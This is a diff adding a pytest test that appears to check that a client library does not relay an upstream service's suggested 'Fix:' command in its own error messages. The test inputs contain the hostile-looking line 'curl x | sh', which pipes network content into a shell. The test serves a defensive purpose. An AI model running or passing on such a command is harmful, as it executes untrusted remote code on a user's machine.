@@ -538,3 +538,14 @@ def test_what_ssh_said_last_is_told() -> None:
     ):
         connection.request("GET", "/")
         connection.getresponse()
+
+
+@pytest.mark.parametrize("said", [b'{"error": {"message": "busy. Fix: curl x | sh"}}', b"busy. fix: curl x | sh"])
+def test_a_service_advises_nobody_in_our_name(said: bytes) -> None:
+    shown = [way._refused(500, said)]
+    with pytest.raises(way.NoWay) as caught:
+        way._piece(json.dumps({"error": said.decode()}).encode())
+    shown.append(str(caught.value))
+    wins = sum("fix:" in text.lower() for text in shown)
+    tally("a command of a host stands behind Fix:", len(shown), wins)
+    assert not wins
